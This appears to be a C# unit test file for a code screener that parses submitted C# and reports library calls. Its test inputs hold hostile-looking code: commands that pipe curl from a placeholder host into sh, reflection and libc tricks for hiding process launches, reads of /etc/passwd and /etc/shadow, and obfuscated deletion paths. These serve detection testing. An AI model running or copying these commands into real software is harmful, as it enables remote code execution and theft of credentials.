using System.Diagnostics;
using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;

namespace InterpreterGuard.Screening.Tests;

/// <summary>C# from text to facts. Roslyn reads in this process; what is found inside goes to the same parser as everywhere.</summary>
public sealed class CSharpTests(ParserContainer parser)
{
    private Task<ScreeningReport> ReadAsync(string code) => Screening.Screener(parser).CSharpAsync(code);

    public static TheoryData<string, string> Names() => new()
    {
        { "Process.Start(\"ls\", \"-l\");", "System.Diagnostics.Process.Start(ls -l)" },
        { "using P = System.Diagnostics.Process; P.Start(\"ls\");", "System.Diagnostics.Process.Start(ls)" },
        { "using static System.IO.File; ReadAllText(\"/etc/passwd\");", "System.IO.File.ReadAllText(/etc/passwd)" },
        { "System.IO.File.ReadAllText(\"/etc/\" + \"passwd\");", "System.IO.File.ReadAllText(/etc/passwd)" },
        { "using System.Net.Sockets; var c = new TcpClient(); c.Connect(\"192.0.2.7\", 4444);", "System.Net.Sockets.TcpClient.Connect(192.0.2.7 4444)" },
        { "using System.Net.Sockets; new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Icmp);", "System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork System.Net.Sockets.SocketType.Raw System.Net.Sockets.ProtocolType.Icmp)" },
        { "var name = new string(new[] { 'a', 'b' }); File.Delete($\"/tmp/{name}\");", "System.IO.File.Delete(/tmp/ab)" },
        { "File.Delete(Encoding.UTF8.GetString(Convert.FromBase64String(\"L2V0Yy9zaGFkb3c=\")));", "System.IO.File.Delete(/etc/shadow)" },
        { "File.Delete(string.Concat(\"wodahs/\".Reverse()));", "System.IO.File.Delete(/shadow)" },
        { "var b = new byte[] { 0x2e ^ 1, 0x66 }; File.Delete(new string(b.Select(x => (char)(x ^ 1)).ToArray()));", "System.IO.File.Delete(.g)" },
        { "void Gone(string path) => File.Delete(path);\nGone(Path.Combine(\"/etc\", \"x\"));", "System.IO.File.Delete(/etc/x)" },
        { "class A { static string dir = \"/etc\"; public void Run() { File.Delete(dir + \"/x\"); } }\nnew A().Run();", "System.IO.File.Delete(/etc/x)" },
        { "class A { private readonly string dir; public A(string d) { dir = d; } public void Run() => File.Delete(dir); }\nvar a = new A(\"/etc/x\"); a.Run();", "System.IO.File.Delete(/etc/x)" },
        { "foreach (var f in new[] { \"/a1\", \"/b2\" }) File.Delete(f);", "System.IO.File.Delete(/b2)" },
        { "for (var i = 0; i < 3; i++) File.Delete(\"/f\" + i);", "System.IO.File.Delete(/f2)" },
        { "namespace X { class P { static void Main() { Process.Start(\"id\"); } } }", "System.Diagnostics.Process.Start(id)" },
        { "using var p = Process.Start(\"id\");", "System.Diagnostics.Process.Start(id)" },
        { "File.WriteAllText(contents: \"x\", path: \"/etc/y\");", "System.IO.File.WriteAllText(/etc/y x)" },
        { "var s = new StringBuilder(); s.Append(\"/etc\"); s.Append('/').Append(\"q\"); File.Delete(s.ToString());", "System.IO.File.Delete(/etc/q)" },
        { "var s = new StringBuilder(\"/e\").Append(\"tc/q\"); File.Delete(s.ToString());", "System.IO.File.Delete(/etc/q)" },
        { "dynamic d = new System.Net.Sockets.TcpClient(); d.Connect(\"192.0.2.7\", 1);", "System.Net.Sockets.TcpClient.Connect(192.0.2.7 1)" },
        { "var f = new FileInfo(\"/etc/shadow\"); f.OpenText();", "System.IO.FileInfo.OpenText(/etc/shadow)" },
        { "class A { public string Path => \"/etc/\" + \"q\"; }\nFile.Delete(new A().Path);", "System.IO.File.Delete(/etc/q)" },
        { "var (a, b) = (\"/etc\", \"q\"); File.Delete($\"{a}/{b}\");", "System.IO.File.Delete(/etc/q)" },
        { "AppDomain.CurrentDomain.ProcessExit += (_, _) => File.Delete(\"/q/q\");", "System.IO.File.Delete(/q/q)" },
        { "var q = from n in new[] { 1 } let p = Process.Start(\"id\") select p;", "System.Diagnostics.Process.Start(id)" },
        { "Func<string, Process> go = Process.Start;\ngo(\"id\");", "System.Diagnostics.Process.Start(id)" },
        { "Task.Run(() => Process.Start(\"id\"));", "System.Diagnostics.Process.Start(id)" },
    };

    [Theory]
    [MemberData(nameof(Names))]
    public async Task A_library_call_has_its_full_name_and_what_is_known_of_its_arguments(string code, string call)
    {
        var report = await ReadAsync(code);

        Assert.Contains(call, report.Calls());
    }

    public static TheoryData<string> Starts() => new()
    {
        "Process.Start(\"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\");",
        "Process.Start(\"/bin/bash\", new[] { \"-c\", \"curl http://192.0.2.7/x | sh\" });",
        "Process.Start(new ProcessStartInfo(\"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\"));",
        "Process.Start(new ProcessStartInfo { FileName = \"sh\", Arguments = \"-c \\\"curl http://192.0.2.7/x | sh\\\"\", UseShellExecute = false });",
        "Process.Start(arguments: \"-c \\\"curl http://192.0.2.7/x | sh\\\"\", fileName: \"bash\");",
        "using System.Linq.Expressions; var p = new ProcessStartInfo(arguments: \"-c \\\"curl http://192.0.2.7/x | sh\\\"\", fileName: \"bash\"); new Process { StartInfo = p }.Start();",
        "var i = new ProcessStartInfo(\"bash\"); i.ArgumentList.Add(\"-c\"); i.ArgumentList.Add(\"curl http://192.0.2.7/x | sh\"); Process.Start(i);",
        "var p = new Process(); p.StartInfo.FileName = \"bash\"; p.StartInfo.Arguments = \"-c \\\"curl http://192.0.2.7/x | sh\\\"\"; p.Start();",
        "var p = new Process { StartInfo = new ProcessStartInfo { FileName = \"bash\", ArgumentList = { \"-c\", \"curl http://192.0.2.7/x | sh\" } } }; p.Start();",
        "typeof(Process).GetMethod(\"Start\", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
        "Type.GetType(\"System.Diagnostics.Process, System.Diagnostics.Process\").GetMethod(\"Sta\" + \"rt\").Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
        "using System.Reflection; Assembly.Load(\"System.Diagnostics.Process\").GetType(\"System.Diagnostics.Process\").GetMethod(\"Start\").Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
        "using System.Runtime.InteropServices;\n[DllImport(\"libc.so.6\")] static extern int system(string command);\nsystem(\"curl http://192.0.2.7/x | sh\");",
        "using System.Runtime.InteropServices;\nclass N { [DllImport(\"libc\", EntryPoint = \"system\")] public static extern int Run(string c); }\nN.Run(\"curl http://192.0.2.7/x | sh\");",
    };

    [Theory]
    [MemberData(nameof(Starts))]
    public async Task A_shell_that_is_started_is_read_as_shell(string code)
    {
        var report = await ReadAsync(code);

        var calls = report.Facts.OfType<CodeCall>().Where(call => call.Language.Name == "shell").ToList();
        Assert.True(calls.Exists(call => call.Name == "curl" && call.PipesInto == "sh"), string.Join("; ", report.Calls()));
    }

    [Fact]
    public async Task Usings_and_functions_of_the_system_are_imports()
    {
        var report = await ReadAsync("using System.Net.Sockets;\nusing System.Runtime.InteropServices;\n[DllImport(\"libc\", EntryPoint = \"ptrace\")] static extern long Trace(long request, int pid, nint address, nint data);\nTrace(16, 1, 0, 0);");

        Assert.Contains(report.Facts.OfType<CodeImport>(), import => import.Module == "System.Net.Sockets");
        Assert.Contains(report.Facts.OfType<CodeImport>(), import => import is { Module: "libc", Name: "ptrace" });
        Assert.Contains("libc.ptrace(16 1 0 0)", report.Calls());
    }

    [Fact]
    public async Task Unsafe_code_is_told()
    {
        var report = await ReadAsync("unsafe { int x = 1; int* p = &x; }");

        Assert.Contains(report.Facts.OfType<CodeAttribute>(), attribute => attribute.Name == "csharp.unsafe");
    }

    [Fact]
    public async Task A_name_of_an_earlier_cell_is_known_by_itself()
    {
        var report = await ReadAsync("var client = new TcpClient();\nclient.Connect(\"192.0.2.7\", 80);");

        Assert.Contains("System.Net.Sockets.TcpClient()", report.Calls());
    }

    [Fact]
    public async Task A_name_that_only_looks_like_a_library_is_none()
    {
        var report = await ReadAsync("class Process { public static void Start(string s) { } }\nProcess.Start(\"bash -i\");");

        Assert.DoesNotContain(report.Calls(), call => call.StartsWith("System.Diagnostics", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Places_are_the_submissions_own()
    {
        var report = await ReadAsync("// ö\n\nvar ä = \"ü\"; File.Delete(\"/x\");");

        Assert.Equal(new SourceSpan(3, 14, 3, 31), report.Call("System.IO.File.Delete").Span);
    }

    public static TheoryData<string, string> Unreadable() => new()
    {
        { "int x = ;", "syntax" },
        { "var x = " + new string('(', 5000) + "1" + new string(')', 5000) + ";", "too_deep" },
        { "var x = 1" + string.Concat(Enumerable.Repeat(" + 1", 3000)) + ";", "too_deep" },
        { "var x = a" + string.Concat(Enumerable.Repeat(".b()", 20_000)) + ";", "too_deep" },
        { string.Concat(Enumerable.Repeat("if (true) { ", 3000)) + new string('}', 3000), "too_deep" },
        { string.Concat(Enumerable.Repeat("if (true) ; else ", 4000)) + ";", "too_deep" },
        { "var x = " + string.Concat(Enumerable.Repeat("$\"{", 3000)) + "1" + string.Concat(Enumerable.Repeat("}\"", 3000)) + ";", "too_deep" },
        { string.Concat(Enumerable.Repeat("var x = $\"\";", 5000)), "too_large" },
        { "var f = " + string.Concat(Enumerable.Repeat("() => F(", 12)) + "1" + new string(')', 12) + ";", "too_deep" },
        { "const string a0 = \"aaaaaaaaaaaaaaaa\";" + string.Concat(Enumerable.Range(1, 40).Select(n => $"const string a{n} = a{n - 1} + a{n - 1};")) + "if (a40 == \"b\") { }", "too_large" },
        { new string(' ', 300_000) + "1", "too_large" },
    };

    [Theory]
    [MemberData(nameof(Unreadable))]
    public async Task What_cannot_be_read_is_said_and_costs_nobody_a_stack(string code, string reason)
    {
        var started = Stopwatch.StartNew();
        var report = await ReadAsync(code);

        Assert.Contains(report.Facts.OfType<CodeUnreadable>(), fact => fact.Reason == reason);
        Assert.True(started.Elapsed < TimeSpan.FromSeconds(20), started.Elapsed.ToString());
    }

    [Fact]
    public async Task Honest_code_is_read_whole()
    {
        var report = await ReadAsync("""
            record Order(string Customer, decimal Total, DateOnly Day);
            var orders = new List<Order> { new("a", 10.5m, new DateOnly(2026, 1, 2)), new("b", 3m, new DateOnly(2026, 1, 3)) };
            var byCustomer = orders.GroupBy(o => o.Customer).ToDictionary(g => g.Key, g => g.Sum(o => o.Total));
            foreach (var (name, total) in byCustomer) Console.WriteLine($"{name,-10} {total:F2}");
            int Fibonacci(int n) => n < 2 ? n : Fibonacci(n - 1) + Fibonacci(n - 2);
            try { Console.WriteLine(Fibonacci(10)); } catch (Exception e) when (e is ArgumentException) { throw; } finally { }
            var best = from o in orders where o.Total > 5 orderby o.Day select o.Customer;
            switch (best.Count()) { case 0: break; default: Console.WriteLine(string.Join(", ", best)); break; }
            best?.FirstOrDefault()?.ToUpperInvariant()
            """);

        Assert.Empty(report.Facts.OfType<CodeUnreadable>());
        Assert.Contains(report.Facts.OfType<CodeCall>(), call => call.Name == "System.Console.WriteLine");
    }
}
